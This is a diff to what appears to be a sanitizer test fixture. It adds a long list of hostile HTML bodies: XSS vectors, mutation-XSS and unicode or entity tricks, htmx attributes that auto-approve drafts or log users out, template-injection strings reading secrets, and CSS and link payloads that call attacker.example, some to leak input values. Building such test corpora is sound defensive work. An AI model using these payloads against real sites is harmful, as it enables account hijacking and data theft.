@@ -243,6 +243,93 @@ SCRIPTS_AND_MARKUP = [
 ]
 
 
+# Families the lists above lacked (issue 23): canaries the browser bench counts, htmx and the review
+# page's own attributes, template syntax, unicode tricks, entity-split markup and more mutation XSS.
+MORE_FAMILIES = [
+    # canaries: window.__canary and console calls naming "hostile" are counted by bench/_soak_hostile.py
+    "<img src=x onerror=__canary()>",
+    "<svg onload=__canary()>",
+    '<script>console.log("hostile script ran")</script>',
+    "<img src=x onerror=console.error('hostile')>",
+    '<a href="javascript:__canary()">canary link</a>',
+    "[canary](javascript:__canary())",
+    # htmx and review.js: attributes this page's own scripts act on
+    '<div hx-get="/accounts/logout/" hx-trigger="load">htmx load</div>',
+    '<div data-hx-post="/queue/drafts/1/decision" data-hx-trigger="load" data-hx-vals=\'{"action":"approve"}\'>d</div>',
+    '<button hx-on:click="alert(1)">htmx on</button>',
+    '<button hx-on="click: alert(1)">htmx on, old</button>',
+    '<div hx-vals=\'js:{a: alert(1)}\' hx-post="/queue/" hx-trigger="load">js vals</div>',
+    '<form hx-post="/queue/bulk" hx-trigger="load"><input name="action" value="approve"></form>',
+    '<a href="https://ok.example" hx-boost="true" hx-target="body">boosted</a>',
+    '<div hx-swap-oob="true" id="draft-body">replaced the draft</div>',
+    '<button data-key="a" form="approve">approve by a</button>',
+    '<a data-draft-link data-key="j" href="https://attacker.example/">next</a>',
+    '<input type="hidden" name="action" value="approve" form="edit-form">',
+    '<button form="edit-form" formaction="https://attacker.example/">approve</button>',
+    # template syntax: shown as text, never evaluated (Django, Jinja, Angular, Vue, JS templates)
+    "{{ 7*7 }} {{ request.user.password }} {{ settings.SECRET_KEY }}",
+    "{% debug %}{% load log %}{% get_admin_log 10 as log %}",
+    "{{constructor.constructor('alert(1)')()}}",
+    "<div ng-app>{{$on.constructor('alert(1)')()}}</div>",
+    "<div v-html=\"'<img src=x onerror=alert(1)>'\">vue</div>",
+    "${alert(1)} #{alert(1)} <%= 7*7 %> [[${7*7}]]",
+    "{{ csrf_token }}{% csrf_token %}{{ csp_nonce }}",
+    # unicode tricks: bidi overrides, zero-width, full-width and look-alike brackets and schemes
+    "Refund \u202eexe.fdp\u202c approved",
+    "<scr\u200bipt>alert(1)</scr\u200bipt>",
+    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+    "\u2039script\u203aalert(1)\u2039/script\u203a",
+    '<a href="\uff4aavascript:alert(1)">full-width scheme</a>',
+    '<a href="https://\u0430ttacker.example/">cyrillic a</a>',
+    '<a href="https://ok.example\u2044attacker.example">fraction slash</a>',
+    "<img src=x on\u00aderror=alert(1)>",
+    "\ufeff<script>alert(1)</script>",
+    '<a href="java\u0000script:alert(1)">nul scheme</a>',
+    # HTML entities splitting markup and schemes
+    "&lt;img src=x onerror=alert(1)&gt;",
+    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
+    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">no semicolons</a>',
+    '<a href="jav&Tab;ascript:alert(1)">named tab</a>',
+    '<a href="javascript&NewLine;:alert(1)">named newline</a>',
+    '<a href="&NewLine;javascript:alert(1)">leading newline</a>',
+    '<img src="x" alt="&quot; onerror=&quot;alert(1)">',
+    "[x](&#106;avascript:alert(1))",
+    # more mutation XSS (parser round trips)
+    "<noscript><style></noscript><img src=x onerror=alert(1)>",
+    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
+    '<svg><style><img src="</style><img src=x onerror=alert(1)//">',
+    "<math><style><img src=x onerror=alert(1)></style></math>",
+    "<table><caption><svg><style><img src=x onerror=alert(1)>",
+    '<a title="&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">t</a>',
+    "<p>a<textarea></p><img src=x onerror=alert(1)></textarea>",
+    "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
+    "<form><button formaction=javascript:alert(1)>x</button></form>",
+    "<svg><foreignObject><p><style><img src=x onerror=alert(1)></style></p></foreignObject></svg>",
+    "<object><param name=src value=javascript:alert(1)></object>",
+    "<img src=x onerror=&#97;lert(1)>",
+    '<img src=x onerror="\\u0061lert(1)">',
+    # CSS: imports, fonts and selectors that read the page
+    "<style>@font-face{font-family:x;src:url(https://attacker.example/f.woff)}body{font-family:x}</style>",
+    '<style>input[value^="a"]{background:url(https://attacker.example/a)}</style>',
+    "<style>@import url(//attacker.example/x.css);</style>",
+    '<div style="background:url(//attacker.example/bg.png)">protocol-relative css</div>',
+    "<style>@\\69mport 'https://attacker.example/x.css';</style>",
+    # navigation and window tricks
+    '<meta http-equiv="refresh" content="0;URL=\'https://attacker.example/\'">',
+    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
+    '<meta http-equiv="set-cookie" content="sessionid=x">',
+    '<a href="https://attacker.example/" target="_top">top</a>',
+    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
+    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
+    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+    '<link rel="preload" as="image" href="https://attacker.example/p.png">',
+    '<link rel="preconnect" href="https://attacker.example">',
+    '<link rel="import" href="https://attacker.example/i.html">',
+    '<img src="https://attacker.example/a.png" fetchpriority="high">',
+    '<a href="https://ok.example" attributionsrc="https://attacker.example/a">attribution</a>',
+]
+
+
 def _cross(templates: list[str], values: list[str], key: str) -> list[str]:
     return [t.replace("{" + key + "}", v) for t in templates for v in values]
 
@@ -255,6 +342,7 @@ HOSTILE_BODIES: list[str] = list(
             *_cross(HANDLER_TAGS, EVENT_HANDLERS, "h"),
             *REMOTE_LOADS,
             *SCRIPTS_AND_MARKUP,
+            *MORE_FAMILIES,
         ]
     )
 )
